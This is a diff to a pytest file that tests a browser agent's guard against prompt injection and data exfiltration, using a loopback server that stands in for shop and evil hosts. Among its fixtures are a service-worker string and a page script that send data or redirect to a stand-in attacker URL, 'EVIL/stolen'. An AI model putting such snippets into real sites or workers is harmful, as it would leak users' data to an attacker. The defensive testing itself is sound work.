@@ -11,9 +11,10 @@ from pathlib import Path
 from urllib.parse import unquote
 
 import pytest
-from tests.agent.guard.injections import CASES, Case
+from tests.agent.guard import injections, more_injections
+from tests.agent.guard.injections import Case
 
-from handeye.actions import Action, action_adapter
+from handeye.actions import Action, Size, action_adapter
 from handeye.agent.budget import Budget
 from handeye.agent.guard import default_policy
 from handeye.agent.journal import Journal
@@ -22,19 +23,26 @@ from handeye.agent.scripted import ScriptedPlanner
 from handeye.envs.browser import BrowserEnv
 from handeye.envs.reach import Reach
 from handeye.episodes import EpisodeWriter
-from handeye.episodes.events import RunStarted
+from handeye.episodes.events import Event, Observed, RunStarted
 from handeye.grounding.backends import make_grounder
 
-ARRIVING_SECONDS = 1.0
+CASES = (*injections.CASES, *more_injections.CASES)
+ARRIVING_SECONDS = 3.0
+SMALL = Size(width=480, height=360)
 FRAME = (
     "<form method=post action=/done><label>Code <input name=code></label><button>Go</button></form>"
 )
+BLOB = "<button onclick=\"window.open(window.URL.createObjectURL(new Blob(['Hi'],{type:'text/html'})))\">Go</button>"
+WORKER = "onmessage=e=>fetch('EVIL/stolen?'+e.data,{mode:'no-cors'})"
+SERVED = {"/frame": FRAME, "/blob": BLOB, "/sw.js": WORKER}
+KINDS = {"/file": "application/zip", "/sw.js": "text/javascript"}
 
 
 class Hosts:
     """One server on loopback that is shop.localhost, evil.localhost and any other name."""
 
-    def __init__(self) -> None:
+    def __init__(self, files: Path) -> None:
+        self.files = files
         self.log: list[str] = []
         self.page = ""
         hosts = self
@@ -44,14 +52,14 @@ class Hosts:
                 body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
                 host = (self.headers["Host"] or "").partition(":")[0]
                 path, _, query = self.path.partition("?")
-                if path not in ("/", "/x", "/favicon.ico", "/frame"):
+                if path not in ("/", "/x", "/favicon.ico", *SERVED):
                     hosts.log.append(unquote(f"{self.command} {host} {self.path} {body}"))
                 self.send_response(302 if path == "/to" else 200)
                 if path == "/to":
                     self.send_header("Location", query)
-                text = {"/": hosts.page, "/frame": FRAME}.get(path, "ok").encode()
-                kind = "application/zip" if path == "/file" else "text/html; charset=utf-8"
-                self.send_header("Content-Type", kind)
+                served = hosts.named(SERVED.get(path, "ok"))
+                text = (hosts.page if path == "/" else served).encode()
+                self.send_header("Content-Type", KINDS.get(path, "text/html; charset=utf-8"))
                 self.send_header("Content-Length", str(len(text)))
                 self.end_headers()
                 self.wfile.write(text)
@@ -65,17 +73,27 @@ class Hosts:
         self.server.daemon_threads = True
         threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()
 
+    def looked(self, event: Event) -> None:
+        if isinstance(event, Observed):
+            self.log.append(f"SEEN {event.url}")
+
     def of(self, name: str) -> str:
         return f"http://{name}.localhost:{self.server.server_port}"
 
     def named(self, text: str) -> str:
         text = text.replace("PORT", str(self.server.server_port))
+        text = text.replace("FILES", str(self.files))
         return text.replace("SHOP", self.of("shop")).replace("EVIL", self.of("evil"))
 
 
 @pytest.fixture(scope="module")
-def hosts() -> Iterator[Hosts]:
-    made = Hosts()
+def hosts(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hosts]:
+    files = tmp_path_factory.mktemp("files")
+    for path, text in {"in/ok.txt": "harmless", "out/secret.txt": "TOPSECRET"}.items():
+        (files / path).parent.mkdir()
+        (files / path).write_text(text, encoding="utf-8")
+    (files / "out/page.html").write_text("<p>TOPSECRET", encoding="utf-8")
+    made = Hosts(files)
     yield made
     made.server.shutdown()
     made.server.server_close()
@@ -85,7 +103,9 @@ def hosts() -> Iterator[Hosts]:
 def env(hosts: Hosts) -> Iterator[BrowserEnv]:
     """All hosts may be private here, so that nothing is stopped only because it is on loopback."""
     reach = Reach(domains=("shop.localhost",), named=("*",))
-    with BrowserEnv(hosts.of("shop"), reach=reach) as made:
+    with BrowserEnv(
+        hosts.of("shop"), reach=reach, uploads=(hosts.files / "in",), viewport=SMALL
+    ) as made:
         yield made
 
 
@@ -104,10 +124,11 @@ def play(hosts: Hosts, env: BrowserEnv, tmp_path: Path) -> Play:
         actions = [action_adapter.dump_python(each, mode="json") for each in do]
         script.write_text(hosts.named(json.dumps(actions)), encoding="utf-8")
         planner = ScriptedPlanner(str(script))
-        policy = default_policy(start, task=task)
+        policy = default_policy(start, (hosts.files / "in",), task=task)
         env.open(start)
         with EpisodeWriter(task, path=tmp_path / "episode") as writer:
-            journal = Journal(writer)
+            env.save_downloads_to(hosts.files / "downloads")
+            journal = Journal(writer, hosts.looked)
             about = {"env": env.name, "planner": planner.name, "grounder": "elements"}
             journal.emit(RunStarted(task=task, **about))
             grounder = make_grounder("elements")
@@ -133,5 +154,17 @@ def test_its_harmless_twin_passes(
 
 
 def test_there_are_enough() -> None:
-    assert len(CASES) >= 40
+    assert len(CASES) >= 70
     assert len({case.name for case in CASES}) == len(CASES)
+
+
+def test_the_start_leads_on_by_its_server_and_not_by_a_script(hosts: Hosts) -> None:
+    hosts.page, hosts.log[:] = (
+        hosts.named("<script>setTimeout(()=>location='EVIL/stolen')</script>"),
+        [],
+    )
+    start = f"{hosts.of('shop')}/to?{hosts.of('third')}/"
+    reach = Reach(domains=("shop.localhost",), named=("*",))
+    with BrowserEnv(start, reach=reach, viewport=SMALL) as env:
+        assert env.observe().url == f"{hosts.of('third')}/"
+    assert not [line for line in hosts.log if "evil" in line]
